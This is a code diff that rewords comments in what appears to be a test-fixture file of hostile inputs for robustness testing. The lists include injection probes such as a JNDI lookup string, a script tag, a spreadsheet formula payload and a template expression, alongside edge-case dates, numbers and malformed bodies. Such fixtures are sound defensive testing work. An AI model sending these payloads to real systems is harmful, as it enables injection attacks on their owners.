@@ -1,4 +1,4 @@
-/** Texts that somebody may send where another one is meant. */
+/** Texts to send in place of expected ones. */
 export const hostileTexts: readonly string[] = [
   '',
   ' ',
@@ -50,7 +50,7 @@ export const hostileTexts: readonly string[] = [
   'a/b?c#d',
   '<script>alert(1)</script>',
   '=cmd|calc',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger may look for
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a pattern that a logger might expand
   '${jndi:ldap://x.invalid/a}',
   '{{7*7}}',
   '$1',
@@ -68,7 +68,7 @@ export const hostileTexts: readonly string[] = [
   '7d0c5a3e52f44c1b9a680d1e6f2b7c90',
 ];
 
-/** Moments at the edges of what programs and PostgreSQL can say. */
+/** Dates at the limits of programs and PostgreSQL. */
 export const hostileDates: readonly string[] = [
   '1969-12-31T23:59:59.999Z',
   '1970-01-01T00:00:00Z',
@@ -108,7 +108,7 @@ export const hostileDates: readonly string[] = [
   '1777636800000',
 ];
 
-/** Numbers as JSON can write them, more than programs can hold. */
+/** Numbers that are valid JSON, many beyond the range of programs. */
 export const hostileNumbers: readonly string[] = [
   '0',
   '-0',
@@ -135,7 +135,7 @@ export const hostileNumbers: readonly string[] = [
   `0.${'3'.repeat(400)}`,
 ];
 
-/** Written as they are into a path or a query. */
+/** Texts to write unencoded into a path or query. */
 export const hostileEscapes: readonly string[] = [
   '%00',
   '%',
@@ -244,7 +244,7 @@ export const hostileMethods: readonly string[] = [
   'get',
 ];
 
-/** Bodies that are none, or too much. */
+/** Bodies that are invalid or too large. */
 export const hostileBodies: readonly Buffer[] = [
   ...['', ' ', 'null', 'true', '0', '""', '[]', '{}', '[[]]', '[null]', '[{}]', '{"":""}', '{"a":1,"a":2}'],
   ...['\0', '{', '[', '"', '{"a":', '{}x', '{} {}', '\ufeff{}', "{'a':1}", '{a:1}', '[1,]', 'NaN', '/**/{}'],
